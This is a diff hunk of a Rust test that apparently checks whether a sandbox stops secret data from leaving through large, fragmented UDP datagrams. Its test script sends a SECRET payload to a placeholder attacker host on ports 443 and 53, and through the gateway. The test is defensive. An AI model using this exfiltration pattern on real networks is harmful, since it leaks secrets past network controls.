@@ -133,7 +133,7 @@ fn udp_in_large_pieces() {
     // Fragments: only the first has a port.
     everywhere("good.example", |inside| {
         inside.tries(&format!(
-            "for size in 1473, 9000, 60000: datagram('{ATTACKER}', 443, SECRET * (size // 10)); datagram('{ATTACKER}', 53, SECRET * (size // 10)); datagram(GATEWAY, 53, SECRET * (size // 10))"
+            "for size in 1473, 9000, 60000: datagram('{ATTACKER}', 443, SECRET * (size // 10)); datagram('{ATTACKER}', 53, SECRET * (size // 10)); answers(ask_udp(GATEWAY, SECRET * (size // 10))) and escaped(size)"
         ));
     });
 }
